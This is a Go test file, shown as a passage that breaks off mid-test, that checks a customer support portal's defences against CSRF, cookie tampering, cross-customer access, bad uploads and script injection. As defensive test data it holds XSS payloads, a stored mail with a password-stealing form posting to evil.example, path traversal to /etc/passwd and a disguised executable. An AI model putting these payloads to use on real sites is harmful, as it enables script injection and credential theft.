package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"html"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/helpdeskkit/portal"
	xhtml "golang.org/x/net/html"
)

// These tests drive the web portal over HTTP without a browser: every
// page, and every kind of bad input and attack the issue names.

// firstTicket returns the first ticket of the client's list.
func (c *client) firstTicket(query string) string {
	c.t.Helper()
	res := c.get("/tickets" + query)
	require.Equal(c.t, http.StatusOK, res.StatusCode, res.body)
	ids := ticketIDs(res.body)
	require.NotEmpty(c.t, ids, "no tickets on /tickets%s", query)
	return ids[0]
}

// ownOpenTicket returns the first open ticket of the client's own (the
// "mine" view).
func (c *client) ownOpenTicket() string {
	c.t.Helper()
	return c.firstTicket("?view=mine&status=open")
}

// newLoggedIn starts a test portal, with a client logged in as its first
// demo login.
func newLoggedIn(t testing.TB) (*testPortal, *client) {
	t.Helper()
	tp := newTestPortal(t)
	c := tp.client()
	c.logIn(tp.login(0))
	return tp, c
}

// multipartReply builds a reply form with files.
func multipartReply(t testing.TB, token, body string, files map[string][]byte) (string, *bytes.Buffer) {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	require.NoError(t, mw.WriteField("csrf", token))
	require.NoError(t, mw.WriteField("body", body))
	for name, content := range files {
		fw, err := mw.CreateFormFile("files", name)
		require.NoError(t, err)
		_, err = fw.Write(content)
		require.NoError(t, err)
	}
	require.NoError(t, mw.Close())
	return mw.FormDataContentType(), &buf
}

func (c *client) reply(ticket, token, body string, files map[string][]byte) response {
	c.t.Helper()
	ct, buf := multipartReply(c.t, token, body, files)
	req, err := http.NewRequest(http.MethodPost, c.tp.URL+"/tickets/"+ticket+"/reply", buf)
	require.NoError(c.t, err)
	req.Header.Set("Content-Type", ct)
	return c.do(req)
}

// covers: A4, P1, P9, S1, S8
func TestLoginListLogout(t *testing.T) {
	tp := newTestPortal(t)
	c := tp.client()
	res := c.get("/tickets")
	assert.Equal(t, http.StatusSeeOther, res.StatusCode, "a visitor without a session goes to the login")
	assert.Equal(t, "/login", res.Header.Get("Location"))

	c.logIn(tp.login(0))
	res = c.get("/tickets")
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.Contains(t, res.body, "<title>Nordlys Support</title>", "the tab title is the portal's name once logged in (S1)")
	ticket := c.firstTicket("")
	detail := c.get("/tickets/" + ticket).body
	assert.Regexp(t, `<title>#\d+ [^<]+ · Nordlys Support</title>`, detail, "each page its own tab title: the ticket's number and subject")
	assert.Contains(t, c.get("/profile").body, "<title>Your profile · Nordlys Support</title>")
	for _, label := range []string{"Subject", "Requested by", "Created", "Owner", "Last activity", "Status", "Product"} {
		assert.Contains(t, res.body, ">"+label+"<", "the configured column label %q (S8)", label)
	}
	assert.Len(t, ticketIDs(res.body), portal.DefaultPageSize, "a full first page")
	i := slices.IndexFunc(tp.demo.data.Contacts, func(c portal.Contact) bool { return c.Email == tp.demo.logins[0].Email })
	require.GreaterOrEqual(t, i, 0)
	tv, err := tp.p.ListTickets(context.Background(), portal.Viewer{PortalID: tp.demo.tenant(), ContactID: tp.demo.data.Contacts[i].ID},
		portal.ListQuery{Limit: portal.DefaultPageSize, Total: true})
	require.NoError(t, err)
	require.Greater(t, tv.Total, portal.DefaultPageSize)
	assert.Contains(t, res.body, fmt.Sprintf(`<span class="page-no">1–25 of %d</span>`, tv.Total), "the view's total (P11)")
	for _, tampered := range []string{"/tickets?n=3", "/tickets?n=1000000"} {
		body := c.get(tampered).body
		assert.Contains(t, body, `<span class="page-no">Page `, "%s: no range the cursor does not bear out", tampered)
	}
	assert.Contains(t, res.body, tp.demo.logins[0].Name)
	assert.Equal(t, "no-store", res.Header.Get("Cache-Control"), "customer pages are not cached")

	token := c.cookie(sessionCookie)
	res = c.post("/logout", url.Values{"csrf": {c.csrf("/tickets")}})
	assert.Equal(t, http.StatusSeeOther, res.StatusCode)
	assert.Equal(t, "/logged-out", res.Header.Get("Location"))
	assert.Contains(t, c.get("/logged-out").body, "You are logged out")
	res = c.get("/tickets")
	assert.Equal(t, "/login", res.Header.Get("Location"), "the session cookie is gone")
	_, err = tp.p.Authenticate(context.Background(), tp.demo.tenant(), token)
	assert.ErrorIs(t, err, portal.ErrUnauthenticated, "logout ended the session in the store at once (A6)")
}

// covers: A4
func TestLoginRefusalsLookAlike(t *testing.T) {
	tp := newTestPortal(t)
	c := tp.client()
	body := func(email, password string) string {
		res := c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {email}, "password": {password}})
		assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
		assert.Empty(t, c.cookie(sessionCookie))
		return csrfPattern.ReplaceAllString(res.body, "")
	}
	wrong := body(tp.login(0), "not-the-password")
	unknown := body("nobody@nowhere.example", "not-the-password")
	assert.Contains(t, wrong, "do not match a login")
	assert.Equal(t, strings.Replace(wrong, tp.login(0), "", 1), strings.Replace(unknown, "nobody@nowhere.example", "", 1),
		"an unknown e-mail and a wrong password give the same page")
}

// covers: A4 (CSRF on every form)
func TestForgedFormsAreRefused(t *testing.T) {
	tp := newTestPortal(t)
	c := tp.client()
	res := c.post("/login", url.Values{"csrf": {"forged"}, "email": {tp.login(0)}, "password": {demoPassword}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode)
	assert.Empty(t, c.cookie(sessionCookie), "a forged login form logs nobody in")
	assert.Contains(t, res.body, "The form had expired")

	stranger := tp.client() // no CSRF cookie at all
	res = stranger.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {tp.login(0)}, "password": {demoPassword}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode, "a token without its cookie is worthless")

	c.logIn(tp.login(0))
	ticket := c.firstTicket("?status=open")
	before := c.get("/tickets/" + ticket).body
	token := c.csrf("/tickets/" + ticket)
	res = c.reply(ticket, alter(token), "forged reply", nil)
	assert.Equal(t, http.StatusForbidden, res.StatusCode)
	res = c.post("/tickets/"+ticket+"/close", url.Values{"csrf": {"x" + token}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode)

	// A page of another site posting with the browser's cookies.
	req, err := http.NewRequest(http.MethodPost, tp.URL+"/tickets/"+ticket+"/close", strings.NewReader(url.Values{"csrf": {token}}.Encode()))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	req.Header.Set("Origin", "https://evil.example")
	res = c.do(req)
	assert.Equal(t, http.StatusForbidden, res.StatusCode, "cross-origin posts are refused")

	after := c.get("/tickets/" + ticket).body
	assert.Equal(t, countMessages(before), countMessages(after), "nothing was written")
	assert.NotContains(t, after, "forged reply")
	assert.Contains(t, after, `action="/tickets/`+ticket+`/close"`, "the ticket is still open")
}

// alter returns token with its last character changed (to another one,
// whatever it was).
func alter(token string) string {
	last := "A"
	if strings.HasSuffix(token, last) {
		last = "B"
	}
	return token[:len(token)-1] + last
}

var messagePattern = regexp.MustCompile(`<article class="message`)

func countMessages(body string) int { return len(messagePattern.FindAllString(body, -1)) }

// covers: A6
func TestTamperedCookies(t *testing.T) {
	tp, c := newLoggedIn(t)
	token := c.cookie(sessionCookie)
	u, _ := url.Parse(tp.URL)
	flip := "A"
	if token[5] == 'A' {
		flip = "B"
	}
	for _, bad := range []string{token[:5] + flip + token[6:], token + "x", "", "%00", strings.Repeat("a", 5000)} {
		c.jar.SetCookies(u, []*http.Cookie{{Name: sessionCookie, Value: bad, Path: "/"}})
		res := c.get("/tickets")
		assert.Equal(t, http.StatusSeeOther, res.StatusCode, "cookie %.20q", bad)
		assert.Contains(t, res.Header.Get("Location"), "/login")
	}
	c.jar.SetCookies(u, []*http.Cookie{{Name: csrfCookie, Value: strings.Repeat("Z", 52), Path: "/"}})
	res := c.post("/login", url.Values{"csrf": {"Zm9yZ2Vk"}, "email": {tp.login(0)}, "password": {demoPassword}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode, "a CSRF cookie the server did not make carries no valid token")
}

// A form's token is bound to the visitor's session, not only to its CSRF
// cookie: someone who got a CSRF cookie and its token planted in another
// customer's browser (or a token of the page before the login) cannot
// make that customer's session send a form.
// covers: A8, A6
func TestFormTokensAreBoundToTheSession(t *testing.T) {
	tp := newTestPortal(t)
	attacker, victim := tp.client(), tp.client()
	attacker.logIn(tp.login(1))
	victim.logIn(tp.login(0))
	planted := attacker.cookie(csrfCookie)
	token := attacker.csrf("/tickets")
	u, _ := url.Parse(tp.URL)
	victim.jar.SetCookies(u, []*http.Cookie{{Name: csrfCookie, Value: planted, Path: "/"}})
	ticket := victim.ownOpenTicket()
	res := victim.post("/tickets/"+ticket+"/reply", url.Values{"csrf": {token}, "body": {"planted"}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode, "another session's token")
	ok := victim.post("/tickets/"+ticket+"/reply", url.Values{"csrf": {victim.csrf("/tickets/" + ticket)}, "body": {"mine"}})
	assert.Equal(t, http.StatusSeeOther, ok.StatusCode, "the session's own token, with the same cookie")
}

// A reply or a support form sent from a page that was open across a new
// login (its token is not the visitor's now) comes back with what was
// typed and the reason, instead of a bare error page; sent again, it goes
// through (X8: nothing a customer typed is lost).
// covers: X8, P5, P8
func TestExpiredFormsKeepTheText(t *testing.T) {
	tp, c := newLoggedIn(t)
	ticket := c.ownOpenTicket()
	stale := c.csrf("/tickets/" + ticket)
	c.logIn(tp.login(0)) // another login: a new session and CSRF cookie
	res := c.post("/tickets/"+ticket+"/reply", url.Values{"csrf": {stale}, "body": {"Typed at length"}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode)
	assert.Contains(t, res.body, "This form had expired")
	assert.Contains(t, res.body, ">Typed at length</textarea>")
	fresh := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindAllStringSubmatch(res.body, -1)
	require.NotEmpty(t, fresh)
	res = c.post("/tickets/"+ticket+"/reply", url.Values{"csrf": {fresh[len(fresh)-1][1]}, "body": {"Typed at length"}})
	assert.Equal(t, http.StatusSeeOther, res.StatusCode, "sent again from the page, it goes through")

	res = c.post("/new", url.Values{"csrf": {stale}, "subject": {"Kept subject"}, "content": {"Kept content"}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode)
	assert.Contains(t, res.body, "Kept subject")
	assert.Contains(t, res.body, "Kept content")
}

// A reply or a support form sent after the session ended (idle timeout)
// gets the login page with what was typed kept in it, through a failed
// login too; the login brings the form back with it, under its key, and
// sent from there it goes through once (X8: nothing typed is lost).
// covers: X8, A6, P5, P8
func TestEndedSessionKeepsTheTypedText(t *testing.T) {
	tp, c := newLoggedIn(t)
	ticket := c.ownOpenTicket()
	page := c.get("/tickets/" + ticket)
	key := regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(page.body)
	require.NotNil(t, key)
	token := csrfPattern.FindStringSubmatch(page.body)[1]
	tp.clock.Add(tp.demo.data.Settings.IdleTimeout + time.Minute)

	const text = "Typed at length <while> the session ended\nsecond line"
	res := c.post("/tickets/"+ticket+"/reply", url.Values{"csrf": {token}, "body": {text}, "key": {key[1]}})
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	assert.Contains(t, res.body, "Your session has ended")
	assert.Contains(t, res.body, "What you wrote is kept")
	hidden := func(body string) url.Values {
		form := url.Values{}
		for _, m := range regexp.MustCompile(`<input type="hidden" name="([^"]+)" value="([^"]*)">`).FindAllStringSubmatch(body, -1) {
			form.Set(m[1], html.UnescapeString(m[2]))
		}
		return form
	}
	form := hidden(res.body)
	assert.Equal(t, text, form.Get("draft.body"), "the text rides in the login form")
	assert.Equal(t, key[1], form.Get("draft.key"))
	assert.Equal(t, "/tickets/"+ticket, form.Get("next"))

	form.Set("email", tp.login(0))
	form.Set("password", "wrong password")
	res = c.post("/login", form)
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	form = hidden(res.body)
	assert.Equal(t, text, form.Get("draft.body"), "kept through a failed login")

	form.Set("email", tp.login(0))
	form.Set("password", demoPassword)
	res = c.post("/login", form)
	require.Equal(t, http.StatusOK, res.StatusCode, res.body)
	assert.Contains(t, res.body, "what you wrote is back")
	assert.Contains(t, res.body, ">"+html.EscapeString(text)+"</textarea>")
	assert.Contains(t, res.body, `name="key" value="`+key[1]+`"`, "under the same key")
	tokens := csrfPattern.FindAllStringSubmatch(res.body, -1)
	require.NotEmpty(t, tokens)
	reply := url.Values{"csrf": {tokens[len(tokens)-1][1]}, "body": {text}, "key": {key[1]}}
	res = c.post("/tickets/"+ticket+"/reply", reply)
	assert.Equal(t, http.StatusSeeOther, res.StatusCode, "sent from the restored form, it goes through")
	res = c.post("/tickets/"+ticket+"/reply", reply)
	assert.Equal(t, http.StatusSeeOther, res.StatusCode)
	assert.Equal(t, 1, strings.Count(c.get("/tickets/"+ticket).body, "the session ended"), "one reply, however often sent")

	tp.clock.Add(tp.demo.data.Settings.IdleTimeout + time.Minute)
	res = c.reply(ticket, tokens[len(tokens)-1][1], "With a file", map[string][]byte{"log.txt": []byte("boot")})
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode, "a multipart reply too")
	assert.Equal(t, "With a file", hidden(res.body).Get("draft.body"))
	assert.Contains(t, res.body, "choose them again", "files cannot ride along: the page says so")

	token = c.csrf("/login")
	res = c.post("/new", url.Values{"csrf": {token}, "subject": {"Kept subject"}, "content": {"Kept content"}, "key": {"k1"}})
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	form = hidden(res.body)
	assert.Equal(t, "/new", form.Get("next"))
	form.Set("email", tp.login(0))
	form.Set("password", demoPassword)
	res = c.post("/login", form)
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.Contains(t, res.body, "Kept subject")
	assert.Contains(t, res.body, "Kept content")

	// A long text rides in the login form as the browser sends it, as
	// multipart: well over the 1 MiB a plain login may be.
	long := strings.Repeat("æøå ", 100_000) // 700 KB, 2.7 MB URL-encoded
	tp.clock.Add(tp.demo.data.Settings.IdleTimeout + time.Minute)
	res = c.post("/new", url.Values{"csrf": {c.csrf("/login")}, "subject": {"Long"}, "content": {long}, "key": {"k2"}})
	require.Equal(t, http.StatusUnauthorized, res.StatusCode)
	assert.Contains(t, res.body, `enctype="multipart/form-data"`)
	form = hidden(res.body)
	form.Set("email", tp.login(0))
	form.Set("password", demoPassword)
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for name, vs := range form {
		require.NoError(t, mw.WriteField(name, vs[0]))
	}
	require.NoError(t, mw.Close())
	req, err := http.NewRequest(http.MethodPost, tp.URL+"/login", &buf)
	require.NoError(t, err)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	res = c.do(req)
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.Contains(t, res.body, html.EscapeString(long), "the whole text is back")
}

// The preview's login (helpdesk users) is throttled as customers' are:
// after five wrong passwords from a client, that client is refused even
// the right one for a while; another client is not. A browser's first
// request, which sends no password, is no attempt.
// covers: A5, A8
func TestPreviewLoginIsThrottled(t *testing.T) {
	tp := newTestPortal(t)
	try := func(addr, password string) int {
		req := httptest.NewRequest(http.MethodGet, "/internal/preview", nil)
		req.RemoteAddr = addr + ":4711"
		if password != "" {
			req.SetBasicAuth("agent", password)
		}
		w := httptest.NewRecorder()
		tp.srv.ServeHTTP(w, req)
		return w.Code
	}
	for range 30 {
		require.Equal(t, http.StatusUnauthorized, try("198.51.100.9", ""))
	}
	require.Equal(t, http.StatusOK, try("198.51.100.9", "agent-secret"), "no password sent is no failure")
	for range 5 {
		require.Equal(t, http.StatusUnauthorized, try("192.0.2.50", "guess"))
	}
	assert.Equal(t, http.StatusUnauthorized, try("192.0.2.50", "agent-secret"), "the guessing client is slowed")
	assert.Equal(t, http.StatusOK, try("198.51.100.9", "agent-secret"), "the agent's own is not")
}

// covers: P4, X5 — another customer's URLs are not found, like missing ones
func TestOtherCustomersURLsAreNotFound(t *testing.T) {
	tp := newTestPortal(t)
	anne := tp.client()
	anne.logIn(tp.login(0))
	ticket := anne.ownOpenTicket()
	res := anne.reply(ticket, anne.csrf("/tickets/"+ticket), "See the attached log.", map[string][]byte{"log.txt": []byte("12:00 ok\n")})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	page := anne.get("/tickets/" + ticket).body
	m := regexp.MustCompile(`href="(/tickets/` + ticket + `/attachments/[0-9a-f-]{36})"`).FindStringSubmatch(page)
	require.NotNil(t, m, "the reply's attachment is linked")
	attachment := m[1]
	res = anne.get(attachment)
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.Equal(t, "12:00 ok\n", res.body)
	assert.Contains(t, res.Header.Get("Content-Disposition"), "attachment")
	assert.Contains(t, res.Header.Get("Content-Security-Policy"), "sandbox")

	søren := tp.client()
	søren.logIn(tp.login(2)) // a contact of another company
	missing := søren.get("/tickets/" + uuid.NewString())
	require.Equal(t, http.StatusNotFound, missing.StatusCode)
	for _, path := range []string{"/tickets/" + ticket, attachment, "/tickets/" + ticket + "/attachments/" + uuid.NewString()} {
		res := søren.get(path)
		assert.Equal(t, http.StatusNotFound, res.StatusCode, path)
		assert.Equal(t, strip(missing.body), strip(res.body), "%s looks exactly like a missing ticket", path)
	}
	res = søren.reply(ticket, søren.csrf("/tickets"), "Not mine", nil)
	assert.Equal(t, http.StatusNotFound, res.StatusCode)
	res = søren.post("/tickets/"+ticket+"/close", url.Values{"csrf": {søren.csrf("/tickets")}})
	assert.Equal(t, http.StatusNotFound, res.StatusCode)
	assert.NotContains(t, anne.get("/tickets/"+ticket).body, "Not mine")

	for _, path := range []string{"/tickets/not-a-uuid", "/tickets/00000000-0000-0000-0000-000000000000",
		"/tickets/%27%3B%20DROP%20TABLE", "/tickets/" + ticket + "/attachments/not-a-uuid", "/nowhere"} {
		res := anne.get(path)
		assert.Equal(t, http.StatusNotFound, res.StatusCode, path)
	}
	res = anne.get("/tickets/" + ticket + "/attachments/../../../etc/passwd")
	require.Equal(t, http.StatusTemporaryRedirect, res.StatusCode, "dot segments are cleaned away")
	assert.Equal(t, http.StatusNotFound, anne.get(res.Header.Get("Location")).StatusCode)
}

// strip removes what differs between two renderings of one page: the form
// tokens.
// strip takes out of a page what changes on every view: CSRF tokens and
// the forms' fresh idempotency keys.
func strip(body string) string {
	return keyPattern.ReplaceAllString(csrfPattern.ReplaceAllString(body, ""), "")
}

var keyPattern = regexp.MustCompile(`name="key" value="[^"]*"`)

// covers: P5 — bad uploads
func TestUploadLimits(t *testing.T) {
	tp, c := newLoggedIn(t)
	ticket := c.ownOpenTicket()
	before := countMessages(c.get("/tickets/" + ticket).body)
	token := c.csrf("/tickets/" + ticket)

	res := c.reply(ticket, token, "too big", map[string][]byte{"big.txt": bytes.Repeat([]byte("a"), 300<<10)})
	assert.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "a body over the server's limit")
	assert.Contains(t, res.body, "too large")

	res = c.reply(ticket, token, "over the file limit", map[string][]byte{"big.txt": bytes.Repeat([]byte("a"), 65<<10)})
	assert.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "a file over the portal's limit")
	assert.Contains(t, res.body, "big.txt: at most", "the problem names the file")
	assert.Contains(t, res.body, ">over the file limit</textarea>", "what the customer typed is kept")

	// Files each within the stated limit, over it in all (X8): the reply
	// comes back with its text and the reason, under the default body
	// limit too.
	cfg := tp.srv.config
	cfg.MaxUpload = 0
	defaults, err := newServer(cfg)
	require.NoError(t, err)
	assert.GreaterOrEqual(t, defaults.MaxUpload, int64(cfg.Limits.MaxFiles)*cfg.Limits.MaxFileSize,
		"every reply whose files are each within the limit is read whole")
	three := map[string][]byte{"a.txt": bytes.Repeat([]byte("a"), 60<<10), "b.txt": bytes.Repeat([]byte("b"), 60<<10),
		"c.txt": bytes.Repeat([]byte("c"), 60<<10)}
	res = c.reply(ticket, token, "three files", three)
	assert.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "over the total")
	assert.Contains(t, res.body, ">three files</textarea>", "what the customer typed is kept")
	assert.Contains(t, res.body, "128 KB in all", "the form states the total")

	res = c.reply(ticket, token, "an executable", map[string][]byte{"invoice.pdf": append([]byte("MZ\x90\x00\x03"), make([]byte, 600)...)})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a lying name")
	res = c.reply(ticket, token, "  ", nil)
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "an empty reply")
	assert.Equal(t, before, countMessages(c.get("/tickets/"+ticket).body), "nothing was written")

	res = c.reply(ticket, token, "a path", map[string][]byte{"../../etc/passwd.txt": []byte("root")})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, "a path in the name is cut to the name")
	page := c.get("/tickets/" + ticket).body
	assert.Contains(t, page, ">passwd.txt</a>")
	assert.NotContains(t, page, "../")
}

// activeContent returns what in a page could run script, leave the site or
// load from elsewhere: a script element other than the portal's own file,
// an event handler attribute, a javascript: URL, a form, image or style
// sheet of another site, a refresh, a frame, an object, a style element.
func activeContent(page string) []string {
	var found []string
	z := xhtml.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case xhtml.ErrorToken:
			return found
		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
			tok := z.Token()
			for _, a := range tok.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(a.Key, "on"):
					found = append(found, tok.String())
				case (a.Key == "href" || a.Key == "src" || a.Key == "action") && strings.HasPrefix(v, "javascript:"):
					found = append(found, tok.String())
				}
			}
			attr := func(name string) string {
				for _, a := range tok.Attr {
					if a.Key == name {
						return a.Val
					}
				}
				return ""
			}
			ours := func(u string) bool { return strings.HasPrefix(u, "/") && !strings.HasPrefix(u, "//") }
			switch tok.Data {
			case "script":
				if tok.String() != `<script src="/static/portal.js" defer="">` {
					found = append(found, tok.String())
				}
			case "form":
				if !ours(attr("action")) {
					found = append(found, tok.String())
				}
			case "img", "link":
				if u := attr("src") + attr("href"); !ours(u) {
					found = append(found, tok.String())
				}
			case "meta":
				if attr("http-equiv") != "" {
					found = append(found, tok.String())
				}
			case "iframe", "frame", "object", "embed", "style", "base":
				found = append(found, tok.String())
			}
		}
	}
}

// covers: P5, P8 — HTML and script in every field are shown as text
func TestHostileTextIsEscaped(t *testing.T) {
	tp, c := newLoggedIn(t)
	hostile := `<script>alert(1)</script><img src=x onerror=alert(2)> "quoted" 'single' javascript:alert(3)`
	form := url.Values{"csrf": {c.csrf("/new")}, "key": {"k1"}, "subject": {hostile}, "content": {hostile}}
	res := c.post("/new", form)
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	ticket := strings.TrimPrefix(strings.Split(res.Header.Get("Location"), "?")[0], "/tickets/")

	res = c.reply(ticket, c.csrf("/tickets/"+ticket), hostile+"\n\n**bold** and https://example.com/a?b=1&c=2.", nil)
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	// And a mail the helpdesk stored as it came, HTML and all (S9).
	ctx := context.Background()
	id := uuid.MustParse(ticket)
	threads, err := tp.p.Threads(ctx, tp.demo.tenant(), id)
	require.NoError(t, err)
	_, err = tp.p.AddMessage(ctx, portal.Message{PortalID: tp.demo.tenant(), ThreadID: threads[0].ID, Kind: portal.AgentMessage,
		From: "agent@support.example", Text: "mail", Body: `<p>From the helpdesk</p><script>alert(6)</script>` +
			`<meta http-equiv="refresh" content="0;url=https://evil.example"><img src="https://tracker.example/p.gif">` +
			`<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>` +
			`<a href="javascript:alert(7)" onclick="x()">click</a><style>body{display:none}</style>`})
	require.NoError(t, err)
	pages := map[string]string{
		"detail": c.get("/tickets/" + ticket).body,
		"list":   c.get("/tickets?q=" + url.QueryEscape(hostile)).body,
		"search": c.get("/tickets?q=" + url.QueryEscape(`"><script>alert(4)</script>`)).body,
		"filter": c.get("/tickets?f.subject=" + url.QueryEscape(`"><script>alert(5)</script>`)).body,
	}
	for name, body := range pages {
		assert.Empty(t, activeContent(body), "%s page: nothing runs but the portal's own script", name)
	}
	detail := pages["detail"]
	assert.Contains(t, detail, "<p>From the helpdesk</p>", "the helpdesk's message is shown, cleaned")
	assert.Contains(t, detail, html.EscapeString("<script>alert(1)</script>"), "the subject shows as text")
	assert.Contains(t, detail, "<strong>bold</strong>", "the reply's formatting is kept")
	assert.Contains(t, detail, `<a href="https://example.com/a?b=1&amp;c=2"`, "an address becomes a link")
}

// covers: S15, A6
func TestIdleSessionGoesBackToLogin(t *testing.T) {
	tp, c := newLoggedIn(t)
	require.Equal(t, http.StatusOK, c.get("/tickets").StatusCode)
	tp.clock.Add(tp.demo.data.Settings.IdleTimeout - time.Minute)
	require.Equal(t, http.StatusOK, c.get("/tickets").StatusCode, "activity inside the idle window")
	tp.clock.Add(tp.demo.data.Settings.IdleTimeout + time.Minute)
	res := c.get("/tickets")
	assert.Equal(t, http.StatusSeeOther, res.StatusCode)
	assert.Equal(t, "/login?expired=1", res.Header.Get("Location"))
	assert.Contains(t, c.get("/login?expired=1").body, "Your session has ended")
	assert.Equal(t, "/login", c.get("/tickets").Header.Get("Location"), "the cookie is cleared")
}

// covers: S14
func TestDisabledPortal(t *testing.T) {
	tp, c := newLoggedIn(t)
	_, err := tp.p.SetEnabled(context.Background(), tp.demo.tenant(), false)
	require.NoError(t, err)
	res := c.get("/tickets")
	assert.Equal(t, http.StatusServiceUnavailable, res.StatusCode)
	assert.Contains(t, res.body, "The portal is closed")
	login := tp.client()
	res = login.get("/login")
	assert.Equal(t, http.StatusServiceUnavailable, res.StatusCode)
	assert.NotContains(t, res.body, `name="password"`, "no login form while the portal is off")

	for _, path := range []string{"/reset-request", "/register", "/reset?token=x", "/invitation?token=x"} {
		res := login.get(path)
		assert.Equal(t, http.StatusServiceUnavailable, res.StatusCode, path)
		assert.NotContains(t, res.body, `<form method="post" action="/`+strings.Split(strings.TrimPrefix(path, "/"), "?")[0], path)
	}

	_, err = tp.p.SetEnabled(context.Background(), tp.demo.tenant(), true)
	require.NoError(t, err)
	assert.Equal(t, http.StatusOK, c.get("/tickets").StatusCode, "the session works again once the portal is on")
}

// covers: A3 — a contact who leaves every access group loses access at its next request
func TestRevokedAccess(t *testing.T) {
	tp, c := newLoggedIn(t)
	ctx := context.Background()
	contact := tp.demo.data.Contacts[0]
	contact.Lists = nil
	_, err := tp.p.SaveContact(ctx, contact)
	require.NoError(t, err)
	res := c.get("/tickets")
	assert.Equal(t, http.StatusSeeOther, res.StatusCode)
	assert.Equal(t, "/access-denied", res.Header.Get("Location"))
	denied := c.get("/access-denied")
	assert.Equal(t, http.StatusForbidden, denied.StatusCode)
	assert.Contains(t, denied.body, "Access denied")
	assert.Equal(t, "/login", c.get("/tickets").Header.Get("Location"))
}

// mailedLink returns the path and query of the last mail's link to email.
func (tp *testPortal) mailedLink(email string) string {
	tp.t.Helper()
	_, err := tp.p.DeliverMail(context.Background(), tp.demo.tenant())
	require.NoError(tp.t, err)
	m, ok := tp.mail.Last(email)
	require.True(tp.t, ok, "a mail to %s", email)
	return strings.TrimPrefix(m.Link, tp.URL)
}

// setPassword completes the password page of a mailed link.
func (c *client) setPassword(link, password string) response {
	c.t.Helper()
	u, err := url.Parse(link)
	require.NoError(c.t, err)
	return c.post(u.Path, url.Values{"csrf": {c.csrf(link)}, "token": {u.Query().Get("token")},
		"password": {password}, "repeat": {password}})
}

// covers: A4 — password reset
func TestPasswordReset(t *testing.T) {
	tp := newTestPortal(t)
	c := tp.client()
	email := tp.login(1)
	for _, address := range []string{email, "nobody@nowhere.example"} {
		res := c.post("/reset-request", url.Values{"csrf": {c.csrf("/reset-request")}, "email": {address}})
		assert.Equal(t, http.StatusOK, res.StatusCode)
		assert.Contains(t, res.body, "If the address has a login", "the same answer for %s", address)
	}
	link := tp.mailedLink(email)
	assert.True(t, strings.HasPrefix(link, "/reset?token="), link)

	u, _ := url.Parse(link)
	res := c.post("/reset", url.Values{"csrf": {c.csrf(link)}, "token": {u.Query().Get("token")}, "password": {"a-new-secret-1"}, "repeat": {"another"}})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
	assert.Contains(t, res.body, "not the same")
	res = c.setPassword(link, "short")
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "the password rules apply")
	res = c.setPassword(link, "a-new-secret-1")
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.Equal(t, "/login?done=1", res.Header.Get("Location"))
	res = c.setPassword(link, "a-newer-secret-2")
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a reset link works once")
	assert.Contains(t, res.body, "expired or has been used")

	res = c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {email}, "password": {demoPassword}})
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode, "the old password is gone")
	res = c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {"  " + strings.ToUpper(email) + " "}, "password": {"a-new-secret-1"}})
	assert.Equal(t, http.StatusSeeOther, res.StatusCode, "the new one works, whatever the case of the e-mail")
}

// covers: A7 — a sign-in link by e-mail, used once with a button (a mail
// scanner that opens the link spends nothing)
func TestSignInLink(t *testing.T) {
	tp := newTestPortal(t)
	c := tp.client()
	email := tp.login(1)
	assert.Contains(t, c.get("/login").body, `href="/signin-request"`, "the login page offers a link")
	for _, address := range []string{email, "nobody@nowhere.example"} {
		res := c.post("/signin-request", url.Values{"csrf": {c.csrf("/signin-request")}, "email": {address}})
		assert.Equal(t, http.StatusOK, res.StatusCode)
		assert.Contains(t, res.body, "If the address has a login", "the same answer for %s", address)
	}
	res := c.post("/signin-request", url.Values{"csrf": {c.csrf("/signin-request")}, "email": {"not an address"}})
